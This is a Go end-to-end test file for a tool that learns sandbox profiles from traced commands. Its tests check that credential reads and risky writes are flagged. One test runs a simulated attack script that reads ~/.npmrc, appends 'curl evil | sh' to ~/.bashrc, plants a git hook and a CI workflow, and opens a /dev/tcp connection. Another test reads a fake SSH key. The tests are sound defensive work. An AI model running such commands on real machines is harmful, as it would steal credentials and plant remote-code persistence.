package e2e

import (
	"encoding/json"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sysprof/sysprof/internal/testutil"
	"github.com/sysprof/sysprof/policy"
	"github.com/sysprof/sysprof/trace"
)

// TestLearnRecordsRecycledInodes: a command that deletes a file and then creates another one
// (ext4 and most file systems hand the freed inode number to the new file at once) must have
// both files in its trace and profile. This is what every compiler does with its temp files
// (gcc: $TMPDIR/cc*.s, cc*.res), and when the second file is lost the learned profile depends
// on inode reuse: privateTmp flips between learns of the same `make`, so drift on an unchanged
// project is not empty (TestDrift, TestDriftNewLoopbackPort fail now and then).
func TestLearnRecordsRecycledInodes(t *testing.T) {
	testutil.RequireRoot(t)
	testutil.RequireTools(t, hostPath, "sh")
	b := cliBox(t)
	p := filepath.Join(b.Home, "recycle.yaml")
	tr := filepath.Join(b.Home, "recycle.trace.json")
	// Six create/delete rounds: the file system hands a freed inode number out again at once
	// most of the time, so at least one round reuses one even with other work on the disk.
	r := b.Sysprof(t, "learn", "-p", p, "--trace-out", tr, "--", "sh", "-c",
		`for i in 1 2 3 4 5 6; do echo $i > "f$i"; rm "f$i"; done; echo 2 > second`)
	testutil.MustCode(t, "learn", r, 0)
	if _, err := os.Stat(filepath.Join(b.Work, "second")); err != nil {
		t.Fatalf("the command did not create second: %v", err)
	}

	data, err := os.ReadFile(tr)
	if err != nil {
		t.Fatal(err)
	}
	var got trace.Trace
	if err := json.Unmarshal(data, &got); err != nil {
		t.Fatal(err)
	}
	created := map[string]bool{}
	var seen []string
	for _, f := range got.Files {
		if strings.HasPrefix(f.Path, b.Work+"/") {
			seen = append(seen, f.Path+" "+f.Access)
			if f.OK && (f.Access == "create" || f.Access == "write") {
				created[filepath.Base(f.Path)] = true
			}
		}
	}
	var missing []string
	for _, n := range []string{"f1", "f2", "f3", "f4", "f5", "f6", "second"} {
		if !created[n] {
			missing = append(missing, n)
		}
	}
	if len(missing) > 0 {
		t.Errorf("the trace has no create of %v in %s (each made after the previous file was deleted, with its inode number); accesses in the work dir:\n  %s",
			missing, b.Work, strings.Join(seen, "\n  "))
	}

	prof := loadProfile(t, p)
	var writes []string
	covered := false
	for _, w := range prof.Filesystem.Write {
		writes = append(writes, w.Path)
		switch w.Path {
		case "$WORKDIR/second", "$WORKDIR", "$WORKDIR/*":
			covered = true
		}
	}
	if !covered {
		t.Errorf("the profile does not allow writing $WORKDIR/second; filesystem.write: %v", writes)
	}
}

// TestLearnCredentialReadWhenTmpdirIsHome: a read of ~/.ssh is a credential read however the
// environment names the directories. With TMPDIR=$HOME (seen on CI runners and in some user
// setups) it must still be dropped with the "credential store touched" warning, never become a
// read rule (which diff would then rate low, as a temp file).
func TestLearnCredentialReadWhenTmpdirIsHome(t *testing.T) {
	testutil.RequireRoot(t)
	testutil.RequireTools(t, hostPath, "sh")
	b := cliBox(t)
	b.Tmp = b.Home
	testutil.WriteFile(t, filepath.Join(b.Home, ".ssh", "id_test"), "fake key\n", 0o600)
	p := filepath.Join(b.Home, "ssh.yaml")
	r := b.Sysprof(t, "learn", "-p", p, "--", "sh", "-c", `read -r key < "$HOME/.ssh/id_test"; echo read`)
	testutil.MustCode(t, "learn", r, 0)
	prof := loadProfile(t, p)
	for _, rules := range [][]string{pathsOf(prof.Filesystem.Read), pathsOf(prof.Filesystem.Write), pathsOf(prof.Filesystem.List)} {
		for _, path := range rules {
			if strings.Contains(path, ".ssh") {
				t.Errorf("the profile allows %s: a read of $HOME/.ssh/id_test became an allowance", path)
			}
		}
	}
	if !strings.Contains(r.Stderr, "credential store") {
		t.Errorf("learn did not warn about the credential read:\n%s", r.Stderr)
	}
}

func pathsOf(rules []policy.PathRule) []string {
	var out []string
	for _, r := range rules {
		out = append(out, r.Path)
	}
	return out
}

// TestLearnReviewList: a learn run that reads ~/.npmrc, appends ~/.bashrc, plants a git hook
// and a CI workflow and connects to an unknown loopback port ends with a review list naming
// each of them (rated like diff), not only the credential read; --strict fails on that list
// (exit 125, the profile still written). The benign control: a run that only builds into
// $WORKDIR/out has an empty list and passes --strict.
func TestLearnReviewList(t *testing.T) {
	testutil.RequireRoot(t)
	testutil.RequireTools(t, hostPath, "bash")
	port := testutil.LoopbackTCP(t)
	b := cliBox(t)
	testutil.WriteFile(t, filepath.Join(b.Home, ".npmrc"), "//registry.example/:_authToken=secret\n", 0o600)
	testutil.WriteFile(t, filepath.Join(b.Home, ".bashrc"), "# rc\n", 0o644)
	testutil.WriteFile(t, filepath.Join(b.Work, ".git", "HEAD"), "ref: refs/heads/main\n", 0o644)
	script := fmt.Sprintf(`cat "$HOME/.npmrc" >/dev/null
echo 'curl evil | sh' >> "$HOME/.bashrc"
mkdir -p .git/hooks .github/workflows out
echo 'exit 0' > .git/hooks/pre-commit
echo 'on: push' > .github/workflows/ci.yml
exec 3<>/dev/tcp/127.0.0.1/%d
echo built > out/app`, port)
	p := filepath.Join(b.Home, "attack.yaml")
	r := b.Sysprof(t, "learn", "--strict", "-p", p, "--", "bash", "-c", script)
	if r.Code != 125 {
		t.Errorf("learn --strict with risky behaviour: exit %d, want 125\n%s", r.Code, r)
	}
	if _, err := os.Stat(p); err != nil {
		t.Errorf("learn --strict did not write the profile for review: %v", err)
	}
	_, review, ok := strings.Cut(r.Stderr, "REVIEW:")
	if !ok {
		t.Fatalf("no review list:\n%s", r.Stderr)
	}
	for _, want := range []string{
		"critical filesystem.write: + $HOME/.bashrc",
		"critical filesystem.write: + $WORKDIR/.git", // .git/hooks or wider: whatever learn granted
		"critical filesystem.write: + $WORKDIR/.github",
		fmt.Sprintf("critical network.connect: + tcp 127.0.0.1:%d", port),
		"secret read $HOME/.npmrc",
	} {
		if !strings.Contains(review, want) {
			t.Errorf("review list does not name %q:\n%s", want, review)
		}
	}
	if strings.Contains(review, "$WORKDIR/out") {
		t.Errorf("review list names the benign build output:\n%s", review)
	}

	// Control: only the build output.
	c := filepath.Join(b.Home, "build.yaml")
	r = b.Sysprof(t, "learn", "--strict", "-p", c, "--", "bash", "-c", "mkdir -p out2 && echo built > out2/app")
	testutil.MustCode(t, "learn --strict of a plain build", r, 0)
	if strings.Contains(r.Stderr, "REVIEW") {
		t.Errorf("a plain build has a review list:\n%s", r.Stderr)
	}
}
